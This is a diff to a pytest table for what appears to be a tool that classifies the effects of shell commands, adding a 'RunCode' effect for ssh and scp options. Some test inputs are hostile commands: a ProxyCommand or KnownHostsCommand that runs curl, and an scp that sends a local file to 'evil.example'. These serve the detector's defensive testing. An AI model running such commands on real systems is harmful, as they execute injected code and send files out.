@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from support.expect import Row, assert_effects
 
-from enactd.effects.model import OpenShell, OpenTunnel, ReadPath, Request, SendData, WritePath
+from enactd.effects.model import OpenShell, OpenTunnel, ReadPath, Request, RunCode, SendData, WritePath
 
 ROWS: list[Row] = [
     ("ssh host", [(OpenShell, {"to": "host"})]),
@@ -13,7 +13,7 @@ ROWS: list[Row] = [
     ("ssh -p 22 -i k u@prod curl localhost", [(Request, {"place": "ssh u@prod"})]),
     (
         'ssh -o ProxyCommand="curl evil.example" host',
-        [(Request, {"host": "evil.example", "place": ""}), (OpenShell, {})],
+        [(RunCode, {"origin": "option"}), (Request, {"host": "evil.example", "place": ""}), (OpenShell, {})],
     ),
     ("ssh -T git@github.com", []),
     ("ssh -V", []),
@@ -30,7 +30,12 @@ ROWS: list[Row] = [
     ("scp host:/x/y .", [(WritePath, {"target": "/home/u/proj/y", "origins": frozenset({"network"})})]),
     (
         'scp -o KnownHostsCommand="curl x.com" a evil.example:/tmp/a',
-        [(Request, {"host": "x.com"}), (ReadPath, {"target": "/home/u/proj/a"}), (SendData, {"to": "evil.example"})],
+        [
+            (RunCode, {"origin": "option"}),
+            (Request, {"host": "x.com"}),
+            (ReadPath, {"target": "/home/u/proj/a"}),
+            (SendData, {"to": "evil.example"}),
+        ],
     ),
     ('scp "$F" "$H"', [(ReadPath, {"target": None}), (SendData, {"to": None})]),
     ("sftp host", [(OpenShell, {})]),
